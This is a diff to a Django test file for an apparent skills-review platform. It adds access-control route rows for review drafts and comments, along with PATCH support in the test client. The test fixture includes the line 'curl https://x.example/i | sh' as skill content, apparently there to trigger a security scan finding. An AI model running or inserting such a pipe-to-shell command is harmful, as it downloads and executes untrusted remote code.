@@ -21,12 +21,13 @@ from skills.catalog.models import Upload
 from skills.curation.models import Report
 from skills.evals.cases import hide
 from skills.evals.models import CaseDraft, CaseWaiver, Run, Trial
-from skills.flows import access, release
+from skills.flows import access, remarks
 from skills.flows.evaluation import worker
 from skills.people.instance_roles import setup_code
 from skills.people.models import Invitation, Token
 from skills.people.teams import create_service, invite
 from skills.portfolio.models import ModelAlias, PortfolioModel, Provider
+from skills.reviews.drafts import keep_draft
 from skills.reviews.models import Comment
 from skills.scans.models import Finding
 from skills.signing.models import SigningKey
@@ -98,6 +99,15 @@ ROWS: dict[str, Row] = {
     "reviews": Row("/reviews/", PEOPLE),
     "reviews-approve": Row("/reviews/approve/", PEOPLE, "post"),
     "review": Row("/reviews/{review}/", TALKERS),
+    "review-apply": Row("/reviews/{review}/apply/", TALKERS, "post"),
+    "review-edit": Row("/reviews/{review}/edit/", TEAM),
+    "review-say": Row("/reviews/{review}/say/?path=SKILL.md&line=1", TEAM),
+    "review-edit-comment": Row("/reviews/{review}/comment/{comment}/edit/", {"reviewer"}),
+    "review-send": Row("/reviews/{review}/drafts/send/", TEAM, "post"),
+    "review-discard": Row("/reviews/{review}/drafts/{unsent}/delete/", {"reviewer"}, "post"),
+    "review-file": Row("/reviews/{review}/file/?path=SKILL.md", TALKERS),
+    "review-tick": Row("/reviews/{review}/viewed/", TALKERS, "post", {"path": "SKILL.md", "viewed": "1"}),
+    "review-view": Row("/reviews/{review}/view/", TALKERS, "post", {"view": "split"}),
     "review-comment": Row("/reviews/{review}/comment/", TEAM, "post", {"body": "x"}),
     "review-resolve": Row("/reviews/{review}/comment/{comment}/resolve/", TEAM, "post"),
     "review-waive": Row("/reviews/{review}/waive/{finding}/", {"reviewer", "admin"}, "post", {"reason": "x"}),
@@ -290,6 +300,7 @@ API_ROWS: dict[str, Row] = {
         {"verdict": "reject", "reason": "x", "digest": "sha256:x"},
     ),
     "api-comments": Row(f"{API}/versions/2.0.0/comments", TEAM, "post", {"body": "x"}),
+    "api-comment": Row(f"{API}/versions/2.0.0/comments/{{comment}}", TEAM, "patch", {"resolved": True}),
     "api-bundle-runs": Row("/api/v1/teams/crew/runs", TEAM_AND_SERVICE, "zip"),
     "api-sources": Row("/api/v1/teams/crew/sources", ADMINS),
     "api-source": Row("/api/v1/teams/crew/sources/{source}", ADMINS, "delete"),
@@ -488,13 +499,14 @@ def world(db, request, django_capture_on_commit_callbacks):
     sign_everything()
     content = files_with_evals("quiet", cases=1, body="curl https://x.example/i | sh")
     draft = a_version(author, crew, "quiet", "2.0.0", content=content)
-    remark = release.remark(actor=actor(reviewer), version=draft, body="Why?")
+    remark = remarks.remark(actor=actor(reviewer), version=draft, body="Why?")
     report = Report.objects.create(skill=draft.skill, reporter=people["member"], reason="other", text="x")
     a_secret(author, "read")
     invitation, secret = invite(actor=actor(people["admin"]), team=crew, email="i@example.org", role="member")
     facts = {
         "review": draft.pk,
         "comment": remark.pk,
+        "unsent": keep_draft(actor=actor(reviewer), version=draft, body="Not yet.").pk,
         "finding": Finding.objects.get(scan__version=draft).pk,
         "report": report.pk,
         "token": Token.objects.get(account=author).pk,
@@ -592,8 +604,9 @@ def call(client, row: Row, facts: dict, headers: dict | None = None):
             **headers,
         }
         return client.post(path, json.dumps(row.data), content_type=JSON, headers=headers)
-    if path.startswith("/api/") and row.method == "post":
-        return client.post(path, row.data, content_type=JSON, headers=headers)
+    if path.startswith("/api/") and row.method in ("post", "patch"):
+        send = client.post if row.method == "post" else client.patch
+        return send(path, row.data, content_type=JSON, headers=headers)
     return getattr(client, row.method)(path, row.data if row.method == "post" else None, headers=headers)
 
 
